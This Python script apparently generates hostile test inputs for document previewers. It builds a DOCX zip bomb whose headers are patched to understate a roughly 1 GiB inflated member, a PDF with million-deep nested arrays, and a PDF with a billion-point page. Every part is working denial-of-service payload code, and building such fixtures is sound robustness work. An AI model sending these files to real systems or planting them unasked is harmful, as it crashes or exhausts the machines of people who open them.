#!/usr/bin/env python3
"""make-hostile-previews.py DIR: documents made to hurt a previewer.

bomb.docx   a DOCX whose word/document.xml inflates to 1 GiB while its
            headers claim 4 KiB (a zip bomb that lies about its size)
deep.pdf    a PDF whose page content and resources nest arrays a million deep
huge.pdf    a PDF whose only page claims to be a billion points wide
"""
import os
import struct
import sys
import zipfile
import zlib

out = sys.argv[1]
os.makedirs(out, exist_ok=True)

# The bomb: zipfile writes it honestly, then both headers are made to lie.
bomb = os.path.join(out, "bomb.docx")
with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("[Content_Types].xml", "<Types/>")
    with z.open("word/document.xml", "w", force_zip64=False) as member:
        chunk = b"<w:t>" + b"A" * (1 << 20) + b"</w:t>"
        member.write(b"<w:document><w:body><w:p><w:r>")
        for _ in range(1023):
            member.write(chunk)
data = bytearray(open(bomb, "rb").read())
name = b"word/document.xml"
local = data.find(b"PK\x03\x04" + data[4:4])  # first local header
while True:
    local = data.find(b"PK\x03\x04", local)
    if data[local + 30:local + 30 + len(name)] == name:
        break
    local += 4
struct.pack_into("<I", data, local + 22, 4096)
central = data.find(b"PK\x01\x02" + data[local + 4:local + 8])
while data[central + 46:central + 46 + len(name)] != name:
    central = data.find(b"PK\x01\x02", central + 4)
struct.pack_into("<I", data, central + 24, 4096)
open(bomb, "wb").write(bytes(data))


def pdf(path, objects):
    body = b"%PDF-1.4\n"
    offsets = []
    for number, obj in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for o in offsets:
        body += b"%010d 00000 n \n" % o
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    open(path, "wb").write(body)


depth = 1000000
nested = b"[" * depth + b"]" * depth
content = b"q " + nested + b" Q"
pdf(os.path.join(out, "deep.pdf"), [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /X " + nested + b" >> >>",
    b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
])
pdf(os.path.join(out, "huge.pdf"), [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1000000000 1000000000] /Contents 4 0 R >>",
    b"<< /Length 22 >>\nstream\n0 0 1000000000 1 re f\nendstream",
])
